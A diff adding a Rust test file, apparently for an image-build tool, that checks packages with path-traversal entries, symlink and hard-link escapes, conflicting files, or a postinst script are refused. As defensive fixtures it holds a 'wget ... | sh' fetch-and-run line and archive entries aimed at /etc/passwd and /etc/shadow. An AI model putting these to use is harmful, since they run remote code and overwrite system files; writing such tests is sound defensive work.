@@ -1,0 +1,77 @@
+//! Packages that their archive signed and that are still not fit for an image.
+
+use tar::EntryType;
+
+use crate::archive::Archive;
+use crate::debs::Tar;
+
+/// The error of a build with a package `evil` of these files.
+fn evil(data: Tar) -> String {
+    Archive::new().with("evil", &[], data).online().refused(&["evil"], 5)
+}
+
+#[test]
+fn files_that_leave_the_root_are_refused() {
+    for (data, cause) in [
+        (Tar::default().file("../etc/passwd", "x"), "`../etc/passwd` climbs out"),
+        (Tar::default().file("./usr/../../passwd", "x"), "climbs out"),
+        (Tar::default().file("/etc/passwd", "x"), "`/etc/passwd` is absolute"),
+        (Tar::default().symlink("./usr", "/etc").file("./usr/passwd", "x"), "lies below `usr`"),
+        (Tar::default().entry(EntryType::Link, "./hard", "../../etc/shadow", b""), "climbs out"),
+    ] {
+        let error = evil(data);
+        assert!(error.contains("evil 1.0-1") && error.contains(cause), "{error}");
+    }
+}
+
+#[test]
+fn a_link_of_another_package_leads_nowhere_outside() {
+    let escape = Tar::default().dir("./").symlink("./escape", "../../../../tmp");
+    let below = Tar::default().dir("./").dir("./escape/").file("./escape/evil", "x");
+    let online = Archive::new().with("aaa", &[], escape).with("evil", &[], below).online();
+    let place = online.place(&["aaa", "evil"]);
+    let ran = place.run(&["lock", "--profile", "node"]);
+    assert!(ran.code == Some(0) || ran.stderr.contains("evil"), "{}", ran.stderr);
+    assert!(!std::path::Path::new("/tmp/evil").exists());
+}
+
+#[test]
+fn a_script_that_nobody_models_is_shown_with_the_choices() {
+    let script = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n    wget -qO- http://example.org | sh\nfi\n";
+    let online = Archive::new().with("evil", &[("postinst", script)], Tar::default()).online();
+    let error = online.refused(&["evil"], 1);
+    assert!(error.contains("evil") && error.contains("1.0-1") && error.contains("`postinst`"), "{error}");
+    assert!(error.contains("   4 |     wget -qO- http://example.org | sh"), "{error}");
+    for choice in ["leave the package out", "docs/effects.md", "ledger.toml", "package = \"evil\"", "sha256 = [\""] {
+        assert!(error.contains(choice), "{choice} is missing in: {error}");
+    }
+
+    // The text that the hint gives is what accepts it.
+    let place = online.place(&["evil"]);
+    let entry = error.split_once("ledger.toml:\n").unwrap().1;
+    place.write("ledger.toml", format!("schema = 1\n{entry}"));
+    let ran = place.run(&["lock", "--profile", "node"]);
+    if ran.code != Some(0) {
+        place.write("ledger.toml", entry);
+        place.run(&["lock", "--profile", "node"]).ok();
+    }
+    assert!(place.read("imgbuild.lock").contains("scripts = \"accepted\""));
+}
+
+#[test]
+fn two_packages_with_one_path_are_refused() {
+    let data = || Tar::default().dir("./").dir("./usr/").file("./usr/parcel", "other");
+    let error = Archive::new().with("rival", &[], data()).online().refused(&["parcel", "rival"], 1);
+    for part in ["`parcel`", "`rival`", "`/usr/parcel`"] {
+        assert!(error.contains(part), "{error}");
+    }
+}
+
+#[test]
+fn a_file_of_one_package_over_a_directory_of_another_is_refused() {
+    let data = Tar::default().dir("./").dir("./usr/").dir("./usr/parcel/");
+    let error = Archive::new().with("rival", &[], data).online().refused(&["parcel", "rival"], 1);
+    for part in ["`parcel`", "`rival`", "`/usr/parcel`", "a directory", "a regular file"] {
+        assert!(error.contains(part), "{error}");
+    }
+}
